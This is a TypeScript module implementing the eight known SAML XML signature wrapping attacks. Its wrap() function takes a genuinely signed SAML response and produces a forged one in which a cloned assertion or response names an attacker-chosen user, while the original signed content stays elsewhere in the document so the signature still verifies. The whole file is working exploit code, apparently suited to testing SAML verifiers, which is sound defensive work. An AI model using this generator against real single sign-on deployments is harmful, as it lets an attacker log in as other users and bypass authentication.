/**
 * Signature wrapping, the eight classic ways ("On Breaking SAML", Somorovsky 2012): what was signed stays in the document and
 * verifies, and somebody else stands where the reader looks.
 */
import { DOMParser, XMLSerializer, type DomElement } from '@xmldom/xmldom';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';

/** A way to wrap. 1 and 2 want a signed response, the others a signed assertion. */
export type Wrapping = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/** The signed response `xml`, wrapped so that a reader may take it for one about `evilName`. */
export function wrap(way: Wrapping, xml: string, evilName: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  if (response === null) throw new Error('Cannot wrap: it is empty');
  const assertion = only(response, 'Assertion');
  const signature = childSignature(way <= 2 ? response : assertion);
  if (way <= 2) wrapResponse(way, response, signature, evilName);
  else wrapAssertion(way, { response, assertion, signature }, evilName);
  return new XMLSerializer().serializeToString(document);
}

/** The root turns evil and keeps the signature; the original goes into it, or before it. */
function wrapResponse(
  way: Wrapping,
  response: DomElement,
  signature: DomElement,
  name: string,
): void {
  const original = response.cloneNode(true) as DomElement;
  original.removeChild(childSignature(original));
  corrupt(response, 'Response', name);
  if (way === 1) signature.appendChild(original);
  else response.insertBefore(original, signature);
}

function wrapAssertion(
  way: Wrapping,
  parts: {
    readonly response: DomElement;
    readonly assertion: DomElement;
    readonly signature: DomElement;
  },
  name: string,
): void {
  const { response, assertion, signature } = parts;
  const document = response.ownerDocument;
  const evil = assertion.cloneNode(true) as DomElement;
  evil.removeChild(childSignature(evil));
  corrupt(evil, 'Assertion', name);
  if (way === 3) {
    response.insertBefore(evil, assertion);
  } else if (way === 4) {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  } else if (way === 7) {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
    extensions.appendChild(evil);
    response.insertBefore(extensions, assertion);
  } else {
    // 5, 6, 8: the evil assertion takes the signature with it.
    const original = assertion.cloneNode(true) as DomElement;
    original.removeChild(childSignature(original));
    assertion.removeChild(signature);
    evil.insertBefore(signature, evil.childNodes[1] ?? null);
    response.replaceChild(evil, assertion);
    if (way === 5) response.appendChild(original);
    else if (way === 6) signature.appendChild(original);
    else {
      const object = document.createElementNS(DSIG, 'ds:Object');
      object.appendChild(original);
      signature.appendChild(object);
    }
  }
}

function corrupt(element: DomElement, what: string, name: string): void {
  element.setAttribute('ID', `_evil${what}`);
  const nameId = only(element, 'NameID');
  nameId.textContent = name;
}

function only(parent: DomElement, localName: string): DomElement {
  const [found] = Array.from(parent.getElementsByTagNameNS('*', localName));
  if (found === undefined) throw new Error(`Cannot wrap: no ${localName}`);
  return found;
}

function childSignature(parent: DomElement): DomElement {
  const found = Array.from(parent.childNodes).find(({ localName }) => localName === 'Signature');
  if (found === undefined) throw new Error('Cannot wrap: no signature');
  return found as DomElement;
}
